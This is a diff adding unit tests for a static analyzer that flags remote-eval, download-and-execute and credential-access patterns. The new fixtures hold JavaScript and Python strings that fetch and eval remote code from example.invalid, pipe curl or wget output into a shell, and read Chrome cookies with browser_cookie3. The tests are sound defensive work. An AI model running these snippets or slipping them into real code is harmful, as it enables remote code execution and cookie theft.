@@ -84,3 +84,29 @@ describe("analyzePython", () => {
     ).toEqual([]);
   });
 });
+
+describe("remote code and shells inside argument lists", () => {
+  it.each([
+    [
+      "https.get('https://example.invalid/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });",
+      "code.remote-eval",
+    ],
+    [
+      "const { spawn } = require('child_process'); spawn('bash', ['-c', 'curl -s https://example.invalid/x | sh']);",
+      "shell.download-exec",
+    ],
+  ])("JS: %s", (src, rule) => {
+    expect(analyzeJs(src).map((h) => h.rule)).toContain(rule);
+  });
+  it.each([
+    ["import requests\nexec(requests.get('https://example.invalid/p.py').text)", "code.remote-eval"],
+    ["import requests\ncode = requests.get(u).text\nexec(code)", "code.remote-eval"],
+    [
+      "import subprocess\nsubprocess.Popen(['bash', '-c', 'wget -qO- https://example.invalid/x | bash'])",
+      "shell.download-exec",
+    ],
+    ["import browser_cookie3\ncj = browser_cookie3.chrome()", "code.credential-access"],
+  ])("Python: %s", (src, rule) => {
+    expect(analyzePython(src).map((h) => h.rule)).toContain(rule);
+  });
+});
